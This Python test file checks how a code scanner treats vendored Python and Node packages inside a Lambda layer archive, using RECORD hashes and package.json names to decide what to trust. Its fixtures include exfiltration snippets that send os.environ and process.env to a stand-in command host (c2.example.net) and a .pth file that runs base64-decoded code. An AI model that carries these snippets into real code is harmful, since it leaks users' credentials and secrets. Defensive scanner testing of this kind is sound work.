"""Vendored ranking is earned by a matching dist-info RECORD (or a consistent npm package)."""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
import zipfile

from lambdawatch.codescan.model import Severity
from lambdawatch.codescan.scanner import scan_bytes
from lambdawatch.codescan.vendored import VendorIndex

SITE = "python/lib/python3.11/site-packages/"
EVIL = (
    b"import os, urllib.request\n"
    b"def hook():\n"
    b"    urllib.request.urlopen('https://c2.example.net/x', data=repr(dict(os.environ)).encode())\n"
    b"hook()\n"
)
BENIGN = b"def add(a, b):\n    return a + b\n"


def _digest(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def record(dist: str, files: dict[str, bytes], claim: dict[str, bytes] | None = None) -> bytes:
    """A RECORD for ``files`` (``claim`` overrides the content a row vouches for)."""
    rows = [f"{p},sha256={_digest(b)},{len(b)}" for p, b in {**files, **(claim or {})}.items()]
    return ("\n".join([*rows, f"{dist}.dist-info/RECORD,,"]) + "\n").encode()


def layer(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def dist(
    name: str, files: dict[str, bytes], claim: dict[str, bytes] | None = None, base: str = SITE
) -> dict[str, bytes]:
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode()
    out = {f"{base}{p}": b for p, b in files.items()}
    out[f"{base}{name}-1.0.dist-info/METADATA"] = meta
    out[f"{base}{name}-1.0.dist-info/RECORD"] = record(
        f"{name}-1.0", {**files, f"{name}-1.0.dist-info/METADATA": meta}, claim
    )
    return out


def worst(members: dict[str, bytes], file: str) -> Severity | None:
    result = scan_bytes("layer.zip", "layer.zip", layer(members))
    return max((f.severity for f in result.findings if f.file == file), default=None)


def test_verified_distribution_is_ranked_down() -> None:
    members = dist("telemetry_kit", {"telemetry_kit/__init__.py": EVIL})
    # Vendored files only get the line checks (secrets, miners, one-line shells): silent here.
    assert worst(members, f"{SITE}telemetry_kit/__init__.py") is None


def test_hash_mismatch_is_first_party() -> None:
    members = dist(
        "telemetry_kit",
        {"telemetry_kit/__init__.py": EVIL},
        claim={"telemetry_kit/__init__.py": BENIGN},
    )
    assert worst(members, f"{SITE}telemetry_kit/__init__.py") == Severity.CRITICAL


def test_module_without_record_entry_is_first_party() -> None:
    members = dist("telemetry_kit", {"telemetry_kit/__init__.py": BENIGN})
    members[f"{SITE}telemetry_kit/extra.py"] = EVIL  # extra file inside a recorded package
    members[f"{SITE}sitecustom_helpers.py"] = EVIL  # extra top-level module
    assert worst(members, f"{SITE}telemetry_kit/extra.py") == Severity.CRITICAL
    assert worst(members, f"{SITE}sitecustom_helpers.py") == Severity.CRITICAL
    assert worst(members, f"{SITE}telemetry_kit/__init__.py") is None


def test_stdlib_named_package_is_first_party_even_with_record() -> None:
    members = dist("json", {"json/__init__.py": EVIL})
    result = scan_bytes("layer.zip", "layer.zip", layer(members))
    got = {
        (f.code, f.line, f.severity) for f in result.findings if f.file == f"{SITE}json/__init__.py"
    }
    assert ("PK010", 3, Severity.HIGH) in got and ("CS202", 3, Severity.CRITICAL) in got
    benign = dist("json", {"json/__init__.py": BENIGN})
    assert worst(benign, f"{SITE}json/__init__.py") is None


def test_metadata_name_must_agree_with_the_folder() -> None:
    members = dist("requests", {"requests/__init__.py": EVIL})
    members[f"{SITE}requests-1.0.dist-info/METADATA"] = b"Name: totally-other\n"
    index = VendorIndex.build(members.items())
    assert not index.is_vendored(f"{SITE}requests/__init__.py")


def test_pth_file_is_never_vendored() -> None:
    pth = b"import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
    members = dist("helpers", {"helpers.pth": pth, "helpers/__init__.py": BENIGN})
    assert worst(members, f"{SITE}helpers.pth") == Severity.HIGH


def test_node_package_needs_a_matching_package_json() -> None:
    js = b"require('https').request('https://c2.example.net/', {}).end(JSON.stringify(process.env));\n"
    good = {
        "nodejs/node_modules/leftpad/package.json": b'{"name": "leftpad"}',
        "nodejs/node_modules/leftpad/index.js": js,
    }
    assert worst(good, "nodejs/node_modules/leftpad/index.js") is None
    wrong = {
        "nodejs/node_modules/leftpad/package.json": b'{"name": "other"}',
        "nodejs/node_modules/leftpad/index.js": js,
    }
    assert worst(wrong, "nodejs/node_modules/leftpad/index.js") == Severity.HIGH
    builtin = {
        "nodejs/node_modules/https/package.json": b'{"name": "https"}',
        "nodejs/node_modules/https/index.js": js,
    }
    assert worst(builtin, "nodejs/node_modules/https/index.js") == Severity.HIGH
    bare = {"node_modules/leftpad/index.js": js}
    assert worst(bare, "node_modules/leftpad/index.js") == Severity.HIGH


def test_archive_members_of_a_verified_distribution_stay_at_info() -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo("Zulu")
        info.type, info.linkname = tarfile.SYMTYPE, "UTC"
        tar.addfile(info)
        blob = b"AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
        data = tarfile.TarInfo("fixtures/creds.txt")
        data.size = len(blob)
        tar.addfile(data, io.BytesIO(blob))
    tz = buf.getvalue()
    members = dist("tzkit", {"tzkit/__init__.py": BENIGN, "tzkit/zones.tar.gz": tz})
    result = scan_bytes("layer.zip", "layer.zip", layer(members))
    inner = [f for f in result.findings if "zones.tar.gz!/" in f.file]
    assert {f.code for f in inner} >= {"CS601"}  # the example key in the fixture file
    assert all(f.severity == Severity.INFO for f in inner)
    # The same tarball without a RECORD listing keeps its findings.
    bare = {f"{SITE}tzkit/zones.tar.gz": tz}
    result = scan_bytes("layer.zip", "layer.zip", layer(bare))
    assert max(f.severity for f in result.findings) >= Severity.MEDIUM
